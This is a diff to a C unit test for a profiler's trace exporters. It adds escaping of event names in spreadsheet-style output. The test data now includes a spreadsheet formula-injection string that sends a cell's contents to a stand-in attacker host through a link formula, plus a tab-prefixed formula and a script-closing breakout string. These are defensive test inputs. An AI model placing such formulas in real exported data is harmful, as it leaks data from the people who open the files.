@@ -23,6 +23,7 @@
 #include "model/selector.h"
 #include "reports/chrome_tracks.h"
 #include "reports/export_text.h"
+#include "reports/inert_cell.h"
 #include "reports/trace_export.h"
 #include "tests/unit/sample.h"
 
@@ -38,7 +39,7 @@ struct lines {
 /* What a format is known to lose. */
 struct view {
     bool (*takes)(const struct cpprof_event *event);
-    bool has_graph, has_local, has_rank, has_recorded_names, has_work_context;
+    bool has_graph, has_local, has_rank, has_recorded_names, has_work_context, has_inert_names;
 };
 
 static bool is_anything(const struct cpprof_event *event)
@@ -57,9 +58,9 @@ static bool is_finished_call(const struct cpprof_event *event)
     return event->kind == CPPROF_EVENT_API && !(event->flags & CPPROF_EVENT_UNFINISHED);
 }
 
-static const struct view chrome_view = {is_anything, true, true, true, true, true};
-static const struct view gpu_view = {is_finished_work, false, false, false, false, true};
-static const struct view api_view = {is_finished_call, false, false, false, true, false};
+static const struct view chrome_view = {is_anything, true, true, true, true, true, false};
+static const struct view gpu_view = {is_finished_work, false, false, false, false, true, true};
+static const struct view api_view = {is_finished_call, false, false, false, true, false, true};
 
 /* The name after an export: bytes that are no UTF-8 stay out of these tests. */
 static void add_name(struct str *line, const struct view *view, const struct strtab *strings,
@@ -90,7 +91,14 @@ static char *line_of(const struct view *view, const struct strtab *strings, cons
         str_addf(&line, "'%s' ", strtab_text(strings, v->detail));
     else
         str_addf(&line, "%u ", v->kind == CPPROF_EVENT_KERNEL && !view->has_graph ? 0 : v->detail); /* a cluster */
-    add_name(&line, view, strings, v);
+    struct str name;
+    str_init(&name);
+    add_name(&name, view, strings, v);
+    if (view->has_inert_names)
+        inert_cell_add(&line, str_text(&name), name.length);
+    else
+        str_add(&line, str_text(&name));
+    str_release(&name);
     return str_take(&line);
 }
 
@@ -236,6 +244,8 @@ static const char *const made_names[] = {"",
                                          "\xc3\xa9t\xc3\xa9 \xe2\x80\xa8 \xf0\x9f\x92\xa5",
                                          "</script>]]>{\"ph\":\"X\"}",
                                          "None of these",
+                                         "=HYPERLINK(\"http://evil.example/\"&A1)",
+                                         "\t@SUM(A1)",
                                          "trailing backslash\\",
                                          "two\nlines, \"\r\n\r\n1,2,3\nWARNING: a remark"};
 static const char *const made_calls[] = {"cudaLaunchKernel", "cudaMemcpyAsync", "cudaStreamSynchronize",
